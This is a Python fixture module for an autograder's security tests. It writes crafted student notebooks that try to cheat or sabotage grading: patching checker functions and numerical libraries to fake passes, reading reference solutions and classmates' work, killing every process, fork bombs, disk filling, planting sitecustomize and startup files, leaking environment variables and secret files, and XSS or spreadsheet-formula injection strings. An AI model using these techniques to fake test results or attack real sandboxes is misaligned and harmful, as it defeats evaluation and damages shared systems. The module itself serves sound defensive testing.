"""A hostile class: crafted submissions, each trying one way to take marks or do harm.

Written from the threat (what a learner's code can reach from inside the grader's sandbox, and
what a submitted file can be), not from a list of known exploits.  Each attacker is graded
together with honest learners by tests/test_grading_attacks.py, which asserts that it gets
exactly what it deserves, that no other learner's result moves, that no file outside the
output folder changes and that no process of the run outlives it.

Unless said otherwise an attacker hands in the *wrong* ``step_lr`` (``WRONG_STEP``: decays one
epoch early) together with its attack, and correct answers for the other two exercises: a
faked pass would show as points on ``step_test``; what it deserves is 0 there and 6 elsewhere.
"""

from __future__ import annotations

import os
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

from .crafted import COSINE, EXP, REPO, SOURCE_NB, STEP, WRONG_STEP, notebook, write

WRONG = {"step_answer": WRONG_STEP, "exp_answer": EXP, "cosine_answer": COSINE}
RIGHT = {"step_answer": STEP, "exp_answer": EXP, "cosine_answer": COSINE}
SIX = {"step_test": 0, "exp_test": 2, "exp_test_more": 1, "cosine_test": 3}
EIGHT = {"step_test": 2, "exp_test": 2, "exp_test_more": 1, "cosine_test": 3}
ZERO = {"step_test": 0, "exp_test": 0, "exp_test_more": 0, "cosine_test": 0}


@dataclass
class Attack:
    """One attacker: its submission and what it deserves."""

    kind: str                      # the threat it exercises (patch, peek, forge, ...)
    path: Path                     # what is handed to `lrcourse grade`
    points: dict[str, float]       # what it deserves, per test
    flagged: set[str] | None = field(default_factory=set)  # flagged tests (None: not asserted)
    status: dict[str, str] = field(default_factory=dict)    # statuses asserted
    message: dict[str, str] = field(default_factory=dict)   # substrings asserted
    at_most: bool = False          # destructive attacks: at most these points


def undeserved(attacks: dict, results: dict, tests: tuple[str, ...]) -> list[str]:
    """What went wrong for each attacker (empty if each got exactly what it deserves), from
    ``results[name][test]``: the points, status, message and flags results.json holds."""
    wrong = []
    for name, attack in attacks.items():
        got = results[name]
        points = {t: got[t]["points"] for t in tests}
        if attack.at_most:
            if any(points[t] > attack.points[t] for t in tests):
                wrong.append(f"{name!r}: {points} is more than {attack.points}")
        elif points != attack.points:
            wrong.append(f"{name!r}: points {points}, deserved {attack.points}: "
                         + "; ".join(f"{t} {got[t]['status']}: {got[t]['message'][:200]}"
                                     for t in tests if points[t] != attack.points[t]))
        for test, status in attack.status.items():
            if got[test]["status"] != status:
                wrong.append(f"{name!r}: {test} is {got[test]['status']}, not {status}: "
                             f"{got[test]['message'][:200]}")
        for test, words in attack.message.items():
            if words not in got[test]["message"]:
                wrong.append(f"{name!r}: {test} message lacks {words!r}: {got[test]['message']}")
        if attack.flagged is not None:
            flagged = {t for t in tests if got[t]["flags"]}
            if flagged != attack.flagged:
                wrong.append(f"{name!r}: flagged {sorted(flagged)}, expected "
                             f"{sorted(attack.flagged)}: "
                             + str([got[t]["flags"] for t in tests if got[t]["flags"]]))
    return wrong


def d(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


def craft(root: Path, ctx: dict) -> dict[str, Attack]:
    """Write every attacker under ``root``; ``ctx`` holds paths the attacks aim at and the
    marker their processes and files carry."""
    mark = ctx["mark"]
    attacks: dict[str, Attack] = {}

    def add(name: str, kind: str, answers: dict, points: dict, **kw) -> None:
        attacks[name] = Attack(kind, write(root / f"{name}.ipynb", notebook(answers)), points,
                               **kw)

    def with_step(extra: str, base: str = WRONG_STEP) -> dict:
        """The wrong step_lr, with ``extra`` run before it is defined."""
        return {**WRONG, "step_answer": extra + "\n" + base}

    def after_step(extra: str) -> dict:
        """The wrong step_lr, then ``extra`` (which may try to replace it)."""
        return {**WRONG, "step_answer": WRONG_STEP + "\n" + extra}

    # ----------------------------------------------------------------- faked passes: patch
    add("patch_check_function", "patch", with_step(d("""
        def check_step_lr(*args, **kwargs):
            print("check_step_lr: all public checks passed")
        """)), SIX)
    add("patch_checks_module", "patch", with_step(d("""
        import lrcourse.checks as checks
        checks.check_step_lr = lambda *args, **kwargs: None
        checks.functions.check_step_lr = lambda *args, **kwargs: None
        """)), SIX, flagged={"step_test"})
    add("patch_run_and_judge", "patch", with_step(d("""
        from lrcourse.checks import functions, spec
        spec.run_in_notebook = lambda *args, **kwargs: None
        functions.FunctionExercise.judge = lambda *args, **kwargs: None
        functions.FunctionExercise.validate = lambda self, case, expected, got: got
        """)), SIX, flagged={"step_test"})
    add("patch_case_tables", "patch", with_step(d("""
        from lrcourse.checks import functions
        functions.STEP_LR.public.clear()
        object.__setattr__(functions.STEP_LR, "hidden_count", 0)
        functions.HIDDEN_CASES = 0
        """)), SIX, flagged={"step_test"})
    add("patch_code_object", "patch", with_step(d("""
        check_step_lr.__wrapped__.__code__ = (lambda fn, *, hidden=False, seed=0: None).__code__
        """)), SIX, flagged={"step_test"})
    add("patch_numpy_compare", "patch", with_step(d("""
        import numpy as np
        np.isclose = lambda a, b, **kwargs: np.ones(np.shape(a), dtype=bool)
        np.flatnonzero = lambda x: np.array([], dtype=int)
        np.allclose = lambda *args, **kwargs: True
        """)), SIX)
    add("patch_torch_scheduler", "patch", with_step(d("""
        import torch.optim.lr_scheduler as schedulers
        schedulers.StepLR.get_lr = lambda self: [0.05 for _ in self.base_lrs]
        schedulers.StepLR._get_closed_form_lr = lambda self: [0.05 for _ in self.base_lrs]
        """)), SIX, flagged={"step_test"})
    add("patch_reference", "patch", with_step(d("""
        import lrcourse.reference
        lrcourse.reference.lr_curve = lambda *args, **kwargs: [0.05] * 40
        """)), SIX, flagged={"step_test"})
    # ------------------------------------------------------------------------------ peek
    add("peek_frames", "peek", with_step(d("""
        import sys

        def step_lr(epoch, base_lr, step_size, gamma):
            frame = sys._getframe(1)
            while frame is not None:
                for name in ("expected", "want", "curve"):
                    if name in frame.f_locals:
                        return float(frame.f_locals[name][epoch])
                frame = frame.f_back
            return base_lr * gamma ** ((epoch + 1) // step_size)
        """), base=""), SIX, flagged={"step_test"})
    add("peek_gc", "peek", with_step(d("""
        import gc

        def step_lr(epoch, base_lr, step_size, gamma):
            for obj in gc.get_objects():
                if isinstance(obj, list) and len(obj) > epoch and obj and \\
                        all(isinstance(x, float) for x in obj[:3]) and obj[0] == base_lr:
                    return obj[epoch]
            return base_lr * gamma ** ((epoch + 1) // step_size)
        """), base=""), SIX, flagged={"step_test"})
    # ------------------------------------------------------------------------- transform
    add("transform_input", "transform", with_step(d("""
        get_ipython().input_transformers_cleanup.append(
            lambda lines: ["pass\\n"] if any("check_" in line for line in lines) else lines)
        """)), SIX, flagged={"step_test"})
    add("transform_ast", "transform", with_step(d("""
        import ast

        class Erase(ast.NodeTransformer):
            def visit_Call(self, node):
                if getattr(node.func, "id", "").startswith("check_"):
                    return ast.Constant(None)
                return node

        get_ipython().ast_transformers.append(Erase())
        """)), SIX, flagged={"step_test"})
    add("print_pass_message", "transform", with_step(d("""
        print("check_step_lr: all public checks passed")
        print("check_step_lr: all hidden checks passed (12 randomized cases)")
        """)), SIX)
    # ------------------------------------------------------------------------------ read
    solution = REPO / "solutions" / "ex01_step_multistep.ipynb"
    add("read_solutions", "read", after_step(d(f"""
        import json
        for path in [{str(solution)!r}, {str(SOURCE_NB)!r}]:
            try:
                cells = json.load(open(path))["cells"]
            except OSError as exc:
                print("cannot read:", exc)
                continue
            for cell in cells:
                if "def step_lr" in "".join(cell["source"]):
                    exec("".join(cell["source"]))
        """)), SIX, flagged={"step_test"})
    add("copy_classmate", "read", after_step(d(f"""
        import json
        try:
            for cell in json.load(open({str(ctx['alice'])!r}))["cells"]:
                if "def step_lr" in "".join(cell["source"]):
                    exec("".join(cell["source"]))
        except OSError as exc:
            print("no classmate here:", exc)
        """)), SIX, flagged={"step_test"})
    # ---------------------------------------------------------------------------- symlink
    link = root / "symlink_to_solution.ipynb"
    link.symlink_to(SOURCE_NB)
    attacks["symlink_to_solution"] = Attack(
        "symlink", link, ZERO, status={t: "missing" for t in ZERO},
        message={"step_test": "symlink_to_solution.ipynb is a symbolic link; links are not "
                              "graded"})
    folder = root / "symlink_folder"
    folder.symlink_to(ctx["alice_folder"])
    attacks["symlink_folder"] = Attack("symlink", folder, ZERO,
                                       status={t: "missing" for t in ZERO},
                                       message={"step_test": "is a symbolic link"})
    inside = root / "symlink_inside"
    inside.mkdir()
    (inside / "schedules.ipynb").symlink_to(SOURCE_NB)
    attacks["symlink_inside"] = Attack("symlink", inside, ZERO,
                                       status={t: "missing" for t in ZERO},
                                       message={"step_test": "schedules.ipynb is a symbolic link"})
    # --------------------------------------------------------------- detach, kill, stop
    add("detached_process", "detach", {**RIGHT, "exp_answer": EXP + "\n" + d(f"""
        import subprocess
        subprocess.Popen(["sh", "-c", "(exec -a {mark}-detached sleep 300) &"],
                         start_new_session=True)
        import os
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sh", ["sh", "-c", "exec -a {mark}-daemon sleep 300"])
            os._exit(0)
        """)}, EIGHT, flagged={"exp_test", "exp_test_more"})
    add("delayed_vandal", "detach", {**RIGHT, "exp_answer": EXP + "\n" + d(f"""
        import subprocess
        script = '''
        import os, signal, time
        time.sleep(3)
        for path in [{str(ctx['out'] / 'scores.csv')!r}, {str(ctx['alice'])!r}]:
            try:
                open(path, "w").write("vandalised")
            except OSError:
                pass
        for pid in range(1, 40000):
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        '''
        subprocess.Popen(["python3", "-c", script, "{mark}-vandal"], start_new_session=True)
        """)}, EIGHT, flagged={"exp_test", "exp_test_more"}, at_most=True)
    add("kill_parent", "kill", with_step(d("""
        import os, signal
        os.kill(os.getppid(), signal.SIGKILL)
        os.kill(1, signal.SIGKILL)
        """)), SIX, flagged={"step_test"})
    add("kill_everyone", "kill", with_step(d("""
        import os, signal
        for pid in range(1, 70000):
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        """)), SIX, flagged={"step_test"})
    add("stop_everyone", "kill", with_step(d("""
        import os, signal

        def step_lr(epoch, base_lr, step_size, gamma):
            for pid in range(1, 70000):
                try:
                    os.kill(pid, signal.SIGSTOP)
                except OSError:
                    pass
            return base_lr
        """), base=""), SIX, flagged={"step_test"}, status={"step_test": "timeout"})
    # ----------------------------------------------------------------------------- forge
    add("forge_frames_on_fds", "forge", with_step(d("""
        import json, os, struct
        frame = json.dumps({"nonce": None, "found": True, "results": [
            {"kind": "values", "values": [0.1] * 40}] * 12, "status": "ok"}).encode()
        for fd in range(0, 64):
            try:
                os.write(fd, struct.pack(">I", len(frame)) + frame)
            except OSError:
                pass
        """)), SIX, flagged={"step_test"})
    add("forge_runner_replies", "forge", with_step(d("""
        import sys
        from lrcourse.schedules import lr_curve
        runner = sys.modules["__main__"].Runner  # the runner is the program itself
        honest_probe = runner.op_probe

        def forged(self, request):
            reply = honest_probe(self, request)
            if request.get("check") == "check_step_lr" and reply.get("found"):
                reply["results"] = [
                    {"kind": "values", "values": lr_curve(
                        "StepLR", case["steps"], case["params"]["base_lr"],
                        step_size=case["params"]["step_size"],
                        gamma=case["params"]["gamma"]).tolist()}
                    for case in request["cases"]]
                reply["calls"], reply["events"] = [], []
            return reply

        runner.op_probe = forged
        """)), EIGHT, flagged={"step_test"})
    add("forge_malformed_values", "forge", with_step(d("""
        import sys
        runner = sys.modules["__main__"].Runner  # the runner is the program itself
        honest_probe = runner.op_probe

        def forged(self, request):
            reply = honest_probe(self, request)
            if request.get("check") == "check_step_lr":
                reply["results"] = [{"kind": "values", "values": ["0.1"] * case["steps"]}
                                    for case in request["cases"]]
            return reply

        runner.op_probe = forged
        """)), SIX, flagged={"step_test"},
        message={"step_test": "the grading sandbox sent back data that the check's own code "
                              "could not have produced"})
    add("forge_huge_frame", "forge", with_step(d("""
        import sys, struct, os
        runner = sys.modules["__main__"].Runner  # the runner is the program itself

        def huge(self, message):
            os.write(self.fd_out, struct.pack(">I", 2**31 - 1) + b"{" * 65536)

        runner.write = huge
        """)), SIX, flagged={"step_test"}, status={"step_test": "crashed"},
        message={"step_test": "your answer cell 'step_answer' broke the grading protocol"})
    add("forge_worker_pipe", "forge", {**RIGHT, "exp_answer": EXP + "\n" + d("""
        import json, os
        fake = json.dumps({"nonce": "x", "result": {"notebook": "schedules.ipynb",
                           "results": [], "notes": []}}) + "\\n"
        for fd in range(0, 1024):
            try:
                os.write(fd, fake.encode())
            except OSError:
                pass
        """)}, {**EIGHT, "exp_test": 0, "exp_test_more": 0},
        flagged={"exp_test", "exp_test_more"},
        status={"exp_test": "crashed", "exp_test_more": "crashed"},
        message={"exp_test": "your answer cell 'exp_answer' broke the grading protocol"})
    add("close_protocol_fds", "forge", with_step(d("""
        import os
        for fd in range(0, 64):
            try:
                os.close(fd)
            except OSError:
                pass
        """)), SIX, flagged={"step_test"}, status={"step_test": "crashed"})
    # ---------------------------------------------------------------------- plant, edit
    add("edit_classmate", "edit", {**RIGHT, "exp_answer": EXP + "\n" + d(f"""
        for path in [{str(ctx['alice'])!r}, {str(ctx['bob'])!r}]:
            try:
                with open(path, "w") as fh:
                    fh.write("{{}}")
            except OSError as exc:
                print("cannot:", exc)
        """)}, EIGHT)
    add("append_to_lrcourse", "plant", {**RIGHT, "exp_answer": EXP + "\n" + d(f"""
        import os, site, sys
        import lrcourse.checks.functions as target
        evil = "\\nraise SystemExit('{mark}')\\n"
        places = [target.__file__, os.path.join(os.path.dirname(target.__file__), "evil.py")]
        places += [os.path.join(p, "{mark}.pth") for p in site.getsitepackages()]
        places += [os.path.join(p, "sitecustomize.py") for p in site.getsitepackages()]
        places += [os.path.join(os.path.dirname(target.__file__), "__pycache__",
                                "functions.cpython-311.pyc")]
        for path in places:
            try:
                with open(path, "a") as fh:
                    fh.write(evil)
            except OSError as exc:
                print("cannot:", exc)
        """)}, EIGHT, flagged={"exp_test", "exp_test_more"})
    add("plant_ipython_startup", "plant", {**RIGHT, "exp_answer": EXP + "\n" + d(f"""
        import os
        evil = "def exponential_lr(epoch, base_lr, gamma):\\n    return 0.0\\n"
        for folder in [os.path.expanduser("~/.ipython/profile_default/startup"),
                       "/root/.ipython/profile_default/startup", "/tmp/{mark}-startup"]:
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, "00-{mark}.py"), "w") as fh:
                    fh.write(evil)
            except OSError as exc:
                print("cannot:", exc)
        """)}, EIGHT, flagged={"exp_test", "exp_test_more"})
    # -------------------------------------------------------------------- fork, fill
    add("fork_bomb", "fork-bomb", with_step(d("""
        import os
        for _ in range(100):
            try:
                os.fork()
            except OSError:
                break
        """)), SIX, flagged={"step_test"}, at_most=True)
    # three children, each under the per-process address-space limit, together far above
    # what the sandbox may use: the cgroup (where there is one) stops them
    add("fork_around_memory", "fork-bomb", with_step(d("""
        import os, resource, time
        soft, _ = resource.getrlimit(resource.RLIMIT_AS)
        size = (soft - 600 * 2**20) if soft > 0 else 1800 * 2**20
        for _ in range(3):
            if os.fork() == 0:
                try:
                    hoard = bytearray(size)
                    hoard[::4096] = b"x" * len(hoard[::4096])
                    time.sleep(30)
                finally:
                    os._exit(0)
        time.sleep(3)
        """)), SIX, flagged={"step_test"}, at_most=True)
    add("fill_tmp", "fill", {**RIGHT, "exp_answer": EXP + "\n" + d(f"""
        import os
        for folder in ["/tmp", os.path.expanduser("~"), "/dev/shm", "/", "/var/tmp"]:
            try:
                with open(os.path.join(folder, "{mark}-fill"), "wb") as fh:
                    for _ in range(4096):
                        fh.write(b"x" * 2**20)
            except OSError as exc:
                print("full:", exc)
        """)}, EIGHT, flagged={"exp_test", "exp_test_more"})
    # ------------------------------------------------------------------------ bombs
    bomb = root / "json_bomb.ipynb"
    bomb.write_text('{"cells": [' + ",".join(["[]"] * 400_000) + "]}")
    attacks["json_bomb"] = Attack("bomb", bomb, ZERO, status={t: "missing" for t in ZERO},
                                  message={"step_test": "JSON objects and arrays, far more"})
    deep = root / "deep_nesting.ipynb"
    deep.write_text('{"cells": ' + "[" * 150_000 + "]" * 150_000 + "}")
    attacks["deep_nesting"] = Attack("bomb", deep, ZERO, status={t: "missing" for t in ZERO},
                                     message={"step_test": "deep_nesting.ipynb is damaged: not "
                                                           "valid notebook JSON (nested too "
                                                           "deeply)"})
    items = root / "many_items.ipynb"
    items.write_text('{"cells": [], "x": [' + ",".join(["0"] * 2_500_000) + "]}")
    attacks["many_items"] = Attack("bomb", items, ZERO, status={t: "missing" for t in ZERO},
                                   message={"step_test": "JSON items, far more than a notebook"})
    fifo = root / "fifo_notebook.ipynb"
    os.mkfifo(fifo)
    attacks["fifo_notebook"] = Attack("bomb", fifo, ZERO, status={t: "missing" for t in ZERO},
                                      message={"step_test": "is a FIFO (named pipe)"})
    if os.geteuid() == 0:
        device = root / "device_notebook.ipynb"
        os.mknod(device, 0o600 | 0o020000, os.makedev(1, 5))  # like /dev/zero
        attacks["device_notebook"] = Attack("bomb", device, ZERO,
                                            status={t: "missing" for t in ZERO},
                                            message={"step_test": "is a device file"})
    big = root / "huge_answer.ipynb"
    write(big, notebook({**RIGHT, "step_answer": STEP + "#" * 150_000 + "\n"}))
    attacks["huge_answer"] = Attack("bomb", big, {**EIGHT, "step_test": 0},
                                    status={"step_test": "missing"},
                                    message={"step_test": "more than the 100,000 an answer may "
                                                          "have"})
    # ----------------------------------------------------------------------- inject
    add("inject_html", "inject", with_step(d("""
        def step_lr(epoch, base_lr, step_size, gamma):
            raise ValueError("<script>alert(1)</script><img src=x onerror=alert(2)>"
                             "<style>body{display:none}</style><a href='javascript:x'>a</a>")
        """), base=""), SIX)
    add("inject_forged_total", "inject", with_step(d("""
        def step_lr(epoch, base_lr, step_size, gamma):
            raise ValueError('</div></section><p class="total">8 / 8 points</p>'
                             '<section><div class="message">')
        """), base=""), SIX)
    add("inject_surrogates", "inject", with_step(d("""
        def step_lr(epoch, base_lr, step_size, gamma):
            raise ValueError("lone surrogate \\ud800 and \\x1b[31mANSI\\x1b[0m and \\x00")
        """), base=""), SIX)
    for name in ("=HYPERLINK(\"evil.invalid\",\"click\")", "+SUM(1,2)", "-2+3",
                 "@cmd", "<b>eve<i>", "\x1b[31mred\x1b[0m"):
        folder = root / name
        write(folder / "schedules.ipynb", notebook(RIGHT))
        attacks[name] = Attack("inject", folder, EIGHT)
    # -------------------------------------------------------------------------- leak
    add("leak_environment", "leak", with_step(d("""
        import os

        def step_lr(epoch, base_lr, step_size, gamma):
            seen = dict(os.environ)
            for pid in os.listdir("/proc"):
                if pid.isdigit():
                    try:
                        seen[pid] = open(f"/proc/{pid}/environ").read()
                    except OSError:
                        pass
            raise RuntimeError(repr(seen))
        """), base=""), SIX, flagged={"step_test"})
    add("leak_secret_file", "leak", with_step(d(f"""
        def step_lr(epoch, base_lr, step_size, gamma):
            found = []
            for path in [{str(ctx['out'] / '.grading-secret')!r},
                         {str(ctx['out'] / '.grading-state.json')!r}]:
                try:
                    found.append(open(path).read())
                except OSError as exc:
                    found.append(str(exc))
            raise RuntimeError(" | ".join(found))
        """), base=""), SIX)
    public = [(10, 0.1, 3, 0.5), (7, 1.0, 1, 0.9), (12, 0.05, 4, 0.1)]
    add("leak_hidden_inputs", "leak", with_step(d(f"""
        PUBLIC = {[(b, s, g) for _, b, s, g in public]!r}

        def step_lr(epoch, base_lr, step_size, gamma):
            if (base_lr, step_size, gamma) in PUBLIC:
                return base_lr * gamma ** (epoch // step_size)
            print("hidden:", epoch, base_lr, step_size, gamma)
            raise ValueError(f"LEAKED-INPUT {{epoch}} {{base_lr!r}} {{step_size!r}} {{gamma!r}}")
        """), base=""), SIX, status={"step_test": "failed"},
        message={"step_test": "check_step_lr: 12 of 12 hidden cases failed (the first: your "
                              "code raised ValueError)"})
    add("leak_hidden_later", "leak", {
        "step_answer": STEP,
        "exp_answer": d("""
            SEEN = []

            def exponential_lr(epoch, base_lr, gamma):
                SEEN.append((epoch, base_lr, gamma))
                return base_lr * gamma ** epoch
            """),
        "cosine_answer": d("""
            def cosine_annealing_lr(epoch, base_lr, T_max, eta_min):
                raise ValueError("exp saw: " + repr(sorted(set(SEEN))))
            """)},
        {**EIGHT, "cosine_test": 0}, status={"cosine_test": "failed"})
    add("hard_coded_public_answers", "leak", with_step(d("""
        TABLE = {(0.1, 3, 0.5): 0.1, (1.0, 1, 0.9): 1.0, (0.05, 4, 0.1): 0.05}

        def step_lr(epoch, base_lr, step_size, gamma):
            if (base_lr, step_size, gamma) in TABLE:
                return base_lr * gamma ** (epoch // step_size)
            return 0.5
        """), base=""), SIX, status={"step_test": "failed"},
        message={"step_test": "hidden cases failed (the first: your values differ from "
                              "PyTorch's)"})
    add("network", "leak", {**RIGHT, "exp_answer": EXP + "\n" + d("""
        import socket
        for host in [("127.0.0.1", 22), ("1.1.1.1", 53)]:
            try:
                socket.create_connection(host, timeout=1).close()
                print("connected to", host)
            except OSError as exc:
                print("no network:", exc)
        """)}, EIGHT, flagged={"exp_test", "exp_test_more"})
    # ----------------------------------------------------------------- library calls
    add("library_torch", "library", {**RIGHT, "step_answer": d("""
        import torch

        def step_lr(epoch, base_lr, step_size, gamma):
            optimizer = torch.optim.SGD([torch.zeros(1, requires_grad=True)], lr=base_lr)
            scheduler = torch.optim.lr_scheduler.StepLR(optimizer, step_size, gamma)
            for _ in range(epoch):
                optimizer.step()
                scheduler.step()
            return optimizer.param_groups[0]["lr"]
        """)}, EIGHT, flagged={"step_test"})
    add("library_lrcourse", "library", {**RIGHT, "step_answer": d("""
        from lrcourse import lr_curve

        def step_lr(epoch, base_lr, step_size, gamma):
            return float(lr_curve("StepLR", epoch + 1, base_lr, step_size=step_size,
                                  gamma=gamma)[epoch])
        """)}, EIGHT, flagged={"step_test"})
    add("library_hidden_import", "library", {**RIGHT, "step_answer": d("""
        name = "lrcourse.sche" + "dules"
        module = __import__(name, fromlist=["lr_curve"])

        def step_lr(epoch, base_lr, step_size, gamma):
            return float(module.lr_curve("StepLR", epoch + 1, base_lr, step_size=step_size,
                                         gamma=gamma)[epoch])
        """)}, EIGHT, flagged={"step_test"})
    add("library_monitor_off", "library", {**RIGHT, "step_answer": d("""
        import sys
        schedules = sys.modules["lrcourse.schedules"]

        def step_lr(epoch, base_lr, step_size, gamma):
            sys.setprofile(None)
            return float(schedules.lr_curve("StepLR", epoch + 1, base_lr, step_size=step_size,
                                            gamma=gamma)[epoch])
        """)}, EIGHT, flagged={"step_test"})
    # the learner deletes the metadata that says what the answer may not use: it is read
    # from the source, so the call is flagged all the same
    nb = notebook({**RIGHT, "step_answer": d("""
        from torch.optim.lr_scheduler import StepLR

        def step_lr(epoch, base_lr, step_size, gamma):
            return base_lr * gamma ** (epoch // step_size)
        """)})
    for cell in nb["cells"]:
        cell["metadata"].pop("lrcourse", None)
    attacks["library_metadata_removed"] = Attack(
        "library", write(root / "library_metadata_removed.ipynb", nb), EIGHT,
        flagged={"step_test"})
    return attacks

